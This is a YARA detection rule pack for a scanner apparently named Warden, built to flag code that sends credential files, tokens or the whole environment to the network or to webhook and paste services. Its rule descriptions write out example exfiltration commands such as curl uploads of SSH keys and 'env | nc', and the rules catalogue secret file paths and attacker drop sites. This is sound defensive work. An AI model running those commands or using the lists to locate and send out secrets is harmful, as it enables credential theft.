/*
 * Warden YARA pack: credential and environment exfiltration.
 *
 * Every rule here becomes the Warden check `yara.exfiltration.<rule name>` and is run over the
 * raw bytes of every scanned file (Python, shell, notebooks, JSON, text). Metadata the engine reads:
 *   title       = "one line"                      what was found
 *   description = "why it matters"                and what to do instead
 *   severity    = "low" | "medium" | "high" | "critical"
 *   confidence  = "low" | "medium" | "high"       how sure a match is the real thing
 *   cwe         = 200  (an integer, or a string of several: "200, 522")
 *   reference   = "url"                           optional
 * Tags on the rule header (`rule x : shell network`) become Warden tags.
 *
 * A finding is reported once per rule and file, on the line of the earliest string match.
 * Plain YARA 4.2: no modules, no external variables. Reading a token to pass it to the library
 * it belongs to (os.environ.get("HF_TOKEN") to huggingface_hub, a Bearer header) is ordinary:
 * every rule needs a secret AND a way out for it, close together.
 */

rule credential_file_exfil : python network credentials exfiltration
{
    meta:
        title = "Credential file (cloud keys, SSH key, .netrc, Docker/Git/hub tokens) read near a network send"
        description = "Model code has no reason to open ~/.aws/credentials, ~/.ssh/id_rsa, ~/.netrc, ~/.docker/config.json, ~/.git-credentials or the Hugging Face token file; doing so within a few lines of requests.post, urlopen, a socket send or an upload sends the user's keys away. Remove it, and rotate those credentials if the code ever ran."
        severity = "critical"
        confidence = "medium"
        cwe = "200, 522"

    strings:
        // ~/.aws/credentials, ~/.ssh/id_rsa (not .pub), ~/.netrc, ~/.docker/config.json, ~/.git-credentials,
        // the hub token file, ~/.kube/config, gcloud's credential stores; also os.path.join(".aws", "credentials")
        $cred = /(\.aws[\/\\]{1,2}credentials\b|\\?["']\.aws\\?["']\s*[,\/]\s*\\?["']credentials\\?["']|\.ssh[\/\\]{1,2}id_(rsa|dsa|ecdsa|ed25519)\\?["'\s)]|\\?["']\.ssh\\?["']\s*[,\/]\s*\\?["']id_(rsa|dsa|ecdsa|ed25519)\\?["']|[~\/\\"']\.netrc\\?["'\s)]|\.docker[\/\\]{1,2}config\.json|\\?["']\.docker\\?["']\s*[,\/]\s*\\?["']config\.json\\?["']|\.git-credentials\b|huggingface[\/\\]{1,2}token\\?["'\s)]|\\?["']huggingface\\?["']\s*[,\/]\s*\\?["']token\\?["']|\.kube[\/\\]{1,2}config\\?["'\s)]|gcloud[\/\\]{1,2}(credentials\.db|access_tokens\.db|application_default_credentials\.json))/
        // requests/httpx post, urlopen/Request/http.client, socket send, mail/FTP upload (curl uploads: shell_credential_upload)
        $send = /(\b(requests|httpx|session|sess|client|aiohttp)\.(post|put|patch)\s*\(|\b(urlopen|Request|HTTPConnection|HTTPSConnection)\s*\(|\.(send|sendall|sendto|sendmail|send_message|storbinary|storlines)\s*\()/

    condition:
        for any i in (1..#cred) : (
            for any j in (1..#send) : (@send[j] < @cred[i] + 2048 and @cred[i] < @send[j] + 2048)
        )
}

rule shell_credential_upload : shell network credentials exfiltration
{
    meta:
        title = "Shell command uploading a credential file or the environment (curl -d @~/.aws/credentials, env | curl)"
        description = "curl -F f=@~/.ssh/id_rsa URL, cat ~/.aws/credentials | curl -d @- URL, curl -d \"$(cat ~/.netrc)\" URL and env | nc HOST PORT send the user's keys and tokens to someone else. Remove it, and rotate the credentials if it ever ran."
        severity = "critical"
        confidence = "high"
        cwe = "200, 522"

    strings:
        // curl -d @~/.aws/credentials / -F key=@$HOME/.ssh/id_rsa / wget --post-file=/root/.netrc
        $curl_at = /\b(curl|wget)\s[^\n]{0,300}(-d|--data|--data-binary|--data-raw|--data-urlencode|-F|--form|-T|--upload-file|--post-file)(\s+|=)\\?["']?([A-Za-z0-9_\-]{1,30}=)?@?(~|\$HOME|\$\{HOME\}|\/root|\/home\/[A-Za-z0-9_.\-]{1,40})\/(\.aws\/credentials|\.ssh\/id_(rsa|dsa|ecdsa|ed25519)([\s"')|;&]|$)|\.netrc\b|\.docker\/config\.json|\.git-credentials|(\.cache\/)?\.?huggingface\/token\b|\.kube\/config\b|\.pypirc\b)/
        $curl_etc = /\b(curl|wget)\s[^\n]{0,300}(-d|--data|--data-binary|-F|--form|-T|--upload-file|--post-file)(\s+|=)\\?["']?([A-Za-z0-9_\-]{1,30}=)?@\/etc\/(shadow|passwd)\b/
        // cat ~/.ssh/id_rsa | base64 | curl ...   /   tar cz ~/.aws | nc host port
        $cat_pipe = /\b(cat|base64|gzip|xxd|tar\s+-?[a-zA-Z]{1,6})\s+[^\n|]{0,200}(~|\$HOME|\$\{HOME\}|\/root|\/home\/[A-Za-z0-9_.\-]{1,40})\/(\.aws\b|\.ssh\/id_(rsa|dsa|ecdsa|ed25519)([\s"')|;&]|$)|\.netrc\b|\.docker\/config\.json|\.git-credentials|(\.cache\/)?\.?huggingface\/token\b|\.kube\/config\b)[^\n|]{0,100}\|\s*((base64|gzip|xxd)[^\n|]{0,20}\|\s*)?(curl|wget|nc|ncat|netcat)\s/
        // curl -d "$(cat ~/.netrc)" URL
        $subst = /\b(curl|wget)\s[^\n]{0,300}\$\(\s*(cat|base64)\s+[^\n)]{0,100}(\.aws\/credentials|\.ssh\/id_(rsa|dsa|ecdsa|ed25519)([\s"')|;&]|$)|\.netrc\b|\.docker\/config\.json|\.git-credentials|huggingface\/token\b|\.kube\/config\b)/
        // env | curl -d @- URL   /   printenv | base64 | nc host port   /   curl -d "$(env)" URL
        $env_pipe = /\b(env|printenv)\s*\|\s*((base64|gzip|xxd)[^\n|]{0,20}\|\s*)?(curl|wget|nc|ncat|netcat)\s/
        $env_subst = /\b(curl|wget)\s[^\n]{0,300}\$\(\s*(env|printenv)\s*(\|\s*(base64|gzip)[^\n)]{0,20})?\)/

    condition:
        any of them
}

rule env_dump_exfil : python network credentials exfiltration
{
    meta:
        title = "Whole environment (os.environ) serialized and sent over the network"
        description = "The environment of a process holds its tokens (HF_TOKEN, cloud keys, API keys); requests.post(URL, json=dict(os.environ)), or json.dumps(dict(os.environ)) followed by a send, ships all of them at once. Model code never needs to send its environment: remove it."
        severity = "critical"
        confidence = "high"
        cwe = "200, 526"

    strings:
        // requests.post(url, json=dict(os.environ)) / s.send(str(os.environ).encode())
        $inline = /\b(post|put|patch|urlopen|Request|send|sendall|sendto)\s*\([^\n]{0,200}(dict\s*\(\s*os\.environ\s*\)|os\.environ\.copy\s*\(\s*\)|\*\*\s*os\.environ\b|(str|repr)\s*\(\s*os\.environ\s*\)|\b(json|data|files|params)\s*=\s*os\.environ\s*[,)])/
        // payload = json.dumps(dict(os.environ)) / base64.b64encode(str(os.environ).encode()) / "\n".join(... os.environ.items())
        $serialize = /((json\.dumps|str|repr|pickle\.dumps|b64encode|urlencode)\s*\(\s*(dict\s*\(\s*)?os\.environ\b|\.join\s*\([^\n]{0,80}\bin\s+os\.environ\.items\s*\(\s*\))/
        $send = /(\b(requests|httpx|session|sess|client|aiohttp)\.(post|put|patch)\s*\(|\b(urlopen|Request)\s*\(|\.(send|sendall|sendto|sendmail|send_message)\s*\()/

    condition:
        $inline or
        for any i in (1..#serialize) : (
            for any j in (1..#send) : (@send[j] > @serialize[i] and @send[j] - @serialize[i] < 400)
        )
}

rule secret_to_exfil_channel : network credentials exfiltration
{
    meta:
        title = "A token, credential file or the environment next to a webhook or paste service (Discord, Telegram, Slack, pastebin, webhook.site, ngrok...)"
        description = "Discord and Slack webhooks, the Telegram bot API, pastebin, request bins and tunnels are the usual drop boxes of credential stealers; a token (HF_TOKEN, cloud or API keys), a credential file or os.environ within a few lines of one is being sent there. Remove it, and rotate the token if the code ever ran."
        severity = "critical"
        confidence = "medium"
        cwe = "200, 522"

    strings:
        $channel = /(discord(app)?\.com\/api\/webhooks\/|api\.telegram\.org\/bot|pastebin\.com\/api|hooks\.slack\.com\/services\/|webhook\.site\/|\.requestbin\.(net|com)|\.pipedream\.net|\.ngrok(-free)?\.(io|app)|\.oast\.(fun|me|pro|live|site|online)|\.interact\.sh|burpcollaborator\.net|transfer\.sh\/|0x0\.st\b)/ nocase
        // os.environ["HF_TOKEN"], getenv("AWS_SECRET_ACCESS_KEY"), $HF_TOKEN, ${GITHUB_TOKEN}
        $token = /(\\?["']|\$\{?)(HF_TOKEN|HUGGING_FACE_HUB_TOKEN|HUGGINGFACE_TOKEN|HF_API_TOKEN|HUGGINGFACEHUB_API_TOKEN|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|GITHUB_TOKEN|GH_TOKEN|OPENAI_API_KEY|ANTHROPIC_API_KEY|WANDB_API_KEY|AZURE_CLIENT_SECRET|GOOGLE_APPLICATION_CREDENTIALS)\b/
        $cred = /(\.aws[\/\\]{1,2}credentials\b|\.ssh[\/\\]{1,2}id_(rsa|dsa|ecdsa|ed25519)\\?["'\s)]|[~\/\\"']\.netrc\\?["'\s)]|\.docker[\/\\]{1,2}config\.json|\.git-credentials\b|huggingface[\/\\]{1,2}token\\?["'\s)]|get_token\s*\(\s*\)|HfFolder\.get_token|dict\s*\(\s*os\.environ\s*\)|os\.environ\.(copy|items)\s*\(|\*\*\s*os\.environ\b|(str|repr|dumps)\s*\(\s*os\.environ\b|\b(env|printenv)\s*\|)/

    condition:
        for any i in (1..#channel) : (
            for any j in (1..#token) : (@token[j] < @channel[i] + 1024 and @channel[i] < @token[j] + 1024) or
            for any k in (1..#cred) : (@cred[k] < @channel[i] + 1024 and @channel[i] < @cred[k] + 1024)
        )
}

rule token_in_request_body : python network credentials exfiltration
{
    meta:
        title = "A secret from the environment put in the body or query of an HTTP request, or sent on a socket"
        description = "requests.post(URL, data={'t': os.environ['HF_TOKEN']}) sends the token as data to whatever URL that is, not as the credential of the service it belongs to (that goes in an Authorization header, or to the library that owns it). Remove it, and rotate the token if the code ever ran."
        severity = "high"
        confidence = "medium"
        cwe = "200, 522"

    strings:
        $body = /\b(post|put|patch|get)\s*\([^)]{0,300}\b(data|json|params|files)\s*=[^)]{0,200}(environ(\.get)?\s*[\[(]\s*|getenv\s*\(\s*)\\?["'](HF_TOKEN|HUGGING_FACE_HUB_TOKEN|HUGGINGFACE_TOKEN|HF_API_TOKEN|HUGGINGFACEHUB_API_TOKEN|AWS_SECRET_ACCESS_KEY|AWS_ACCESS_KEY_ID|AWS_SESSION_TOKEN|GITHUB_TOKEN|GH_TOKEN|OPENAI_API_KEY|ANTHROPIC_API_KEY|WANDB_API_KEY|AZURE_CLIENT_SECRET)\\?["']/
        $socket = /\.(send|sendall|sendto)\s*\(\s*(str\s*\(\s*)?(os\.)?(environ(\.get)?\s*[\[(]\s*|getenv\s*\(\s*)\\?["'](HF_TOKEN|HUGGING_FACE_HUB_TOKEN|HUGGINGFACE_TOKEN|HF_API_TOKEN|HUGGINGFACEHUB_API_TOKEN|AWS_SECRET_ACCESS_KEY|AWS_ACCESS_KEY_ID|AWS_SESSION_TOKEN|GITHUB_TOKEN|GH_TOKEN|OPENAI_API_KEY|ANTHROPIC_API_KEY|WANDB_API_KEY|AZURE_CLIENT_SECRET)\\?["']/

    condition:
        any of them
}
